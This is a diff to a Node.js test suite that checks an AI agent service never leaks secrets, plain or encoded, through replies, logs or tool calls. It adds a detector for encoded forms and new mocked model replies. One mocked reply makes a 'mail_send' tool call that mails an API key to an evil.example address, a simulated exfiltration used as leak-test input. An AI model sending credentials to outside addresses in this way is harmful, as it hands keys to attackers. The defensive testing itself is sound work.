@@ -5,6 +5,7 @@ import assert from "node:assert/strict";
 import { randomBytes } from "node:crypto";
 import { after, before, test } from "node:test";
 import { loginCode } from "../../scripts/lib/login.mjs";
+import { finder, written } from "./forms.mjs";
 import { readRows, until } from "./harness.mjs";
 import { REPLY_URL, completion, startAgent } from "./support.mjs";
 
@@ -25,28 +26,37 @@ const UNREAD = { SLACK_BOT_TOKEN: fresh("xoxb-"), SLACK_SIGNING_SECRET: fresh("s
 /** What the services echo. */
 const KNOWN = Object.values(SECRETS);
 const ALL = [...KNOWN, ...Object.values(UNREAD)];
-/** Nothing that is read by strangers may hold this much of a secret. */
-const PART = 12;
-const PARTS = ALL.flatMap((value) => [value, value.slice(-PART), value.slice(0, PART + 6), Buffer.from(value).toString("base64").slice(2, -4), Buffer.from(value).toString("hex")]);
+/** Finds any of them in a text, in any way to write it and in parts. */
+const found = finder(ALL);
 
 const responses = [];
 let agent;
 let provider = "openai";
 
 function assertClean(text, where) {
-  for (const part of PARTS) assert.ok(!text.includes(part), `${where} holds ${part.slice(0, 6)}…`);
+  const part = found(text);
+  assert.ok(part === undefined, `${where} holds ${part}: ${text.slice(0, 400)}`);
 }
+
+test("every way to write a secret would be found here", () => {
+  for (const value of ALL) {
+    for (const way of written(value)) assert.ok(found(`It is ${way}, so there.`), way);
+  }
+  assertClean(JSON.stringify({ text: "sk-proj- wt- ordinary words", hash: randomBytes(500).toString("hex"), file: randomBytes(5_000).toString("base64") }), "chance");
+});
 
 /** What every service says. */
 const ECHO = `I was told ${KNOWN.join(" and ")}.`;
+/** The same in every way to write it. */
+const FORMS = `I was told ${KNOWN.flatMap(written).join(" | ")}.`;
 
 const anthropic = (blocks) => Response.json({ id: "m", type: "message", role: "assistant", model: "m", content: blocks, stop_reason: blocks.at(-1).type === "tool_use" ? "tool_use" : "end_turn", usage: { input_tokens: 1, output_tokens: 1 } });
 
 async function outbound(request, record) {
   const { hostname } = new URL(record.url);
   const leaky = { "x-echo": ECHO, "set-cookie": `key=${SECRETS.OPENAI_API_KEY}` };
-  if (record.url === REPLY_URL) return new Response(ECHO, { status: 200, headers: leaky });
-  if (hostname === "api.telegram.org") return new Response(JSON.stringify({ ok: false, description: ECHO, error_code: 400 }), { status: 400, headers: leaky });
+  if (record.url === REPLY_URL) return new Response(ECHO + FORMS, { status: 200, headers: leaky });
+  if (hostname === "api.telegram.org") return new Response(JSON.stringify({ ok: false, description: ECHO + FORMS, error_code: 400 }), { status: 400, headers: leaky });
   const prompt = JSON.parse(record.body);
   const words = JSON.stringify(prompt.messages.filter((message) => message.role === "user").at(-1)?.content ?? "");
   const answered = /tool_result|"role":"tool"/.test(JSON.stringify(prompt.messages.slice(prompt.messages.findLastIndex((message) => JSON.stringify(message).includes("ways-")))));
@@ -54,12 +64,14 @@ async function outbound(request, record) {
   if (words.includes("ways-busy")) return new Response(ECHO, { status: 429, headers: { ...leaky, "retry-after": SECRETS.OPENAI_API_KEY } });
   if (words.includes("ways-broken")) return new Response(`data: {"choices":[{"delta":{"content":"${ECHO}`, { headers: { "content-type": "text/event-stream", ...leaky } });
   if (hostname === "api.anthropic.com") {
+    if (words.includes("ways-forms")) return anthropic([{ type: "thinking", thinking: FORMS, signature: FORMS }, { type: "text", text: FORMS }]);
     if (words.includes("ways-args") && !answered) return anthropic([{ type: "text", text: ECHO }, { type: "tool_use", id: SECRETS.ANTHROPIC_API_KEY, name: "notes_add", input: { text: ECHO } }]);
     return anthropic([{ type: "thinking", thinking: ECHO, signature: SECRETS.ANTHROPIC_API_KEY }, { type: "text", text: ECHO }]);
   }
   if (words.includes("ways-args") && !answered) {
     return completion({ calls: [["notes_add", { text: ECHO }], ["mail_send", { to: `${SECRETS.OPENAI_API_KEY}@evil.example`, subject: ECHO, body: ECHO }], [SECRETS.SEAL_KEY, { [SECRETS.SEAL_KEY]: 1 }], ["reply", { parts: [ECHO] }]] });
   }
+  if (words.includes("ways-forms")) return completion({ pieces: FORMS.match(/[^]{1,7}/gu) });
   if (words.includes("ways-letters")) return completion({ pieces: [...ECHO] });
   if (words.includes("ways-halves")) return completion({ pieces: KNOWN.flatMap((value) => [value.slice(0, -3), value.slice(-3), " "]) });
   return completion({ text: ECHO });
@@ -84,7 +96,7 @@ before(async () => {
 
 after(() => agent.dispose());
 
-const WAYS = ["ways-plain", "ways-letters", "ways-halves", "ways-args", "ways-error", "ways-broken", "ways-busy"];
+const WAYS = ["ways-plain", "ways-letters", "ways-halves", "ways-forms", "ways-args", "ways-error", "ways-broken", "ways-busy"];
 
 /** Lets the model echo everything in every way, by webhook and with a console that watches. */
 async function echoAll() {
@@ -139,6 +151,17 @@ test("a secret that the owner pastes is neither stored nor sent, and the chat go
   assert.match(answer.text, /I was told/);
   const next = await hook("pasted", "hello");
   assert.match(next.text, /I was told/);
+});
+
+test("nor is one that is pasted in another way of writing it", async () => {
+  const ways = written(SECRETS.SEAL_KEY);
+  for (const [n, way] of ways.entries()) {
+    const answer = await hook("pasted-ways", `way ${n} is ${way}, I think`);
+    assert.equal(answer.status, 200, `${way}: ${answer.text}`);
+    assert.match(answer.text, /I was told/, way);
+  }
+  const sent = agent.egress.map((request) => request.body).filter((body) => body.includes("way 0 is [secret], I think"));
+  assert.ok(sent.length > 0, "what is left of the message was sent on");
 });
 
 test("what the owner can read holds no secret", async () => {
